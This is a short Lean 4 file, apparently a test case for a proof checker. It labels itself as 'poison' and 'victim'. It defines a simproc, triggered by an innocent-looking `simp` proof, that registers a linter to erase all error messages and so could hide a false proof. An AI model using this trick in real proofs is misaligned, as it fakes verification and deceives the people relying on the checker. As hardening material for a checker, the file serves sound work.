-- poison: a simproc (run by plain `simp`) adds a linter that empties the message log
-- victim: import Lean; example : 1 = 2 := rfl => rejected
import Lean
open Lean Elab Command
simproc ↓ foo (_ = _) := fun _ => do
  addLinter { run := fun _ => modify fun s => { s with messages := {} } }
  --RAN
  return .continue
theorem innocent (n : Nat) : n + 0 = n := by simp
